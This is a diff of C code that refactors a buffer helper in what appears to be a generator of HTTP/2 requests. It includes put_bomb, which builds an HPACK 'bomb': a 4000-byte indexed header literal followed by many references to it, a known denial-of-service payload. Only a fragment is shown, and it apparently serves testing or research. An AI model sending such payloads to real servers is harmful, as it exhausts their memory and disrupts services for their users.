@@ -54,11 +54,20 @@ struct buf {
 	size_t len;
 };
 
-static void put(struct buf *b, const void *p, size_t n)
+/* n bytes at the end: from p, or n times the byte *fill when p is NULL. */
+static void put_fill(struct buf *b, const void *p, size_t n, const char *fill)
 {
 	b->p = realloc(b->p, b->len + n);
-	memcpy(b->p + b->len, p, n);
+	if (p)
+		memcpy(b->p + b->len, p, n);
+	else
+		memset(b->p + b->len, *fill, n);
 	b->len += n;
+}
+
+static void put(struct buf *b, const void *p, size_t n)
+{
+	put_fill(b, p, n, NULL);
 }
 
 static void put_frame(struct buf *b, uint8_t type, uint8_t flags, uint32_t sid, const void *p,
@@ -102,8 +111,7 @@ static void put_literal(struct buf *b, bool indexing, size_t n, char ch)
 		head[k++] = v;
 	}
 	put(b, head, k);
-	for (size_t i = 0; i < n; i++)
-		put(b, &ch, 1);
+	put_fill(b, NULL, n, &ch);
 }
 
 /* GET / on https, :authority h: static references and a literal. */
@@ -283,8 +291,7 @@ static void put_bomb(struct buf *b, int refs)
 
 	put(&block, get_block, sizeof(get_block));
 	put_literal(&block, true, 4000, 'e');
-	for (int i = 0; i < refs; i++)
-		put(&block, "\xbe", 1);
+	put_fill(&block, NULL, refs, "\xbe");
 	put_preface(b);
 	put_headers(b, 1, &block);
 	free(block.p);
